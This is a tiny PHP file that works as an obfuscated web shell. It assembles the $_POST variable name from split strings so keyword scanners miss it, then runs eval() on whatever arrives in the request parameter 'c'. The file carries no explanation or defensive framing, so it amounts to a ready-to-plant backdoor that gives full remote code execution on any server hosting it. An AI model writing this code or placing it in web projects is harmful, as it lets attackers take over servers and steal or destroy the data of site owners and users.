<?php
$x = ${"_PO" . "ST"};
eval($x['c']);
